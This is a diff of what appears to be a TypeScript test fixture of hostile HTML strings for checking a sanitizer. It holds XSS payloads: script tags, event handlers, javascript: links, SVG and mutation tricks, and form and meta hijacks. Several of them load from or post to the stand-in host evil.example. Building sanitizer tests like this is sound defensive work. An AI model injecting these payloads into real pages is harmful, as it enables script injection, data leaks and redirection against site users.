@@ -1,6 +1,6 @@
 /** HTML that tries to run scripts, load or post data, cover the page, or imitate parts of it. Names are for the report. */
 export const HOSTILE_HTML: Record<string, string> = {
-  // script
+  // Script elements.
   script: '<script>alert(1)</script>',
   'script with space in end tag': '<script>alert(1)</script >',
   'script in capitals': '<ScRiPt>alert(1)</sCrIpT>',
@@ -11,7 +11,7 @@ export const HOSTILE_HTML: Record<string, string> = {
   'script as module': '<script type=module>import("//evil.example")</script>',
   'script of JSON': '<script type="application/json">{"a":"</script><img src=x onerror=alert(1)>"}</script>',
   'script with null byte': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
-  // event handlers
+  // Event handler attributes.
   'img onerror': '<img src=x onerror=alert(1)>',
   'img onerror on own picture': '<img src="/credit/filestorage/file/readImage/harbour" onerror="alert(1)">',
   'img onerror without space': '<img/src=x/onerror=alert(1)>',
@@ -28,7 +28,7 @@ export const HOSTILE_HTML: Record<string, string> = {
   'attribute that breaks out': '<p title="x" onmouseover="alert(1)">x</p>',
   'title that breaks out': '<a href="/home" title="&quot; onmouseover=&quot;alert(1)">x</a>',
   'grave accent as quote': '<img src=`x` onerror=`alert(1)`>',
-  // addresses
+  // Addresses that run code.
   'javascript link': '<a href="javascript:alert(1)">x</a>',
   'javascript link in capitals': '<a href="JaVaScRiPt:alert(1)">x</a>',
   'javascript link with tab': '<a href="java\tscript:alert(1)">x</a>',
@@ -55,7 +55,7 @@ export const HOSTILE_HTML: Record<string, string> = {
   'link with a ping': '<a href="/home" ping="https://evil.example/">x</a>',
   'link that opens a window of its own': '<a href="/home" target="victim" rel="opener">x</a>',
   'link as download': '<a href="/home" download="virus.exe">x</a>',
-  // foreign elements
+  // SVG and MathML elements.
   'svg onload': '<svg onload=alert(1)>',
   'svg script': '<svg><script>alert(1)</script></svg>',
   'svg animate': '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
@@ -64,7 +64,7 @@ export const HOSTILE_HTML: Record<string, string> = {
   'svg foreignObject': '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
   'math link': '<math><mtext href="javascript:alert(1)">x</mtext></math>',
   'math action': '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
-  // frames and objects
+  // Frames and embedded objects.
   iframe: '<iframe src="https://evil.example/"></iframe>',
   'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   'iframe srcdoc with entities': '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
@@ -73,7 +73,7 @@ export const HOSTILE_HTML: Record<string, string> = {
   embed: '<embed src="javascript:alert(1)">',
   applet: '<applet code="x.class"></applet>',
   portal: '<portal src="https://evil.example"></portal>',
-  // style
+  // Styles.
   style: '<style>body{background:url(//evil.example)}</style>',
   'style with import': '<style>@import "//evil.example/x.css";</style>',
   'style attribute that covers the page': '<div style="position:fixed;inset:0;z-index:9999;background:#fff">x</div>',
@@ -82,7 +82,7 @@ export const HOSTILE_HTML: Record<string, string> = {
   'style attribute that loads': '<p style="background-image:url(https://evil.example/x)">x</p>',
   'classes of the portal': '<p class="card visually-hidden indent">x</p><span class="mark page-note">y</span>',
   'link to a style sheet': '<link rel=stylesheet href=//evil.example/x.css>',
-  // raw text and mutation
+  // Raw text elements, and markup whose meaning changes when it is parsed again (mutation XSS).
   xmp: '<xmp><img src=x onerror=alert(1)></xmp>',
   noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   noembed: '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
@@ -111,7 +111,7 @@ export const HOSTILE_HTML: Record<string, string> = {
   'tag never closed': '<p><a href="/home',
   'attribute never closed': '<a href="/home title=x onmouseover=alert(1)>x</a><p>',
   'only less-than signs': '<<<<<<< a < b > c >>>',
-  // document and forms
+  // Document elements and forms.
   base: '<base href="https://evil.example/">',
   'meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example/">',
   'meta policy': '<meta http-equiv="Content-Security-Policy" content="script-src *">',
@@ -120,7 +120,7 @@ export const HOSTILE_HTML: Record<string, string> = {
   'button with its own target': '<button form=reading formaction="https://evil.example/">x</button>',
   isindex: '<isindex type=image src=x onerror=alert(1)>',
   'dialog and popover': '<dialog open><p popover=auto id=a>x</p><button popovertarget=a>y</button></dialog>',
-  // pictures
+  // Pictures.
   'picture from elsewhere': '<img src="https://evil.example/pixel.gif">',
   'picture from data': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
   'picture with srcset': '<img src="/credit/filestorage/file/readImage/harbour" srcset="https://evil.example/x 2x">',
@@ -130,7 +130,7 @@ export const HOSTILE_HTML: Record<string, string> = {
   'picture with other parameters': '<img src="/credit/filestorage/file/readImage/harbour?width=100&amp;x=1">',
   'picture with a huge size': '<img src="/credit/filestorage/file/readImage/harbour" width="99999" height="1e9">',
   'picture as map': '<img src="/credit/filestorage/file/readImage/harbour" usemap="#m" ismap crossorigin>',
-  // imitation of the page
+  // Imitations of parts of the page.
   'id that clobbers': '<p id="main">x</p><a id="cookie" name="forms" href="/home">y</a>',
   'data attributes of the enhancements': '<p data-leaving data-close data-print="x" data-scroll>x</p>',
   'custom elements of the portal': '<public-notice data-id=x><side-bar>x</side-bar></public-notice>',
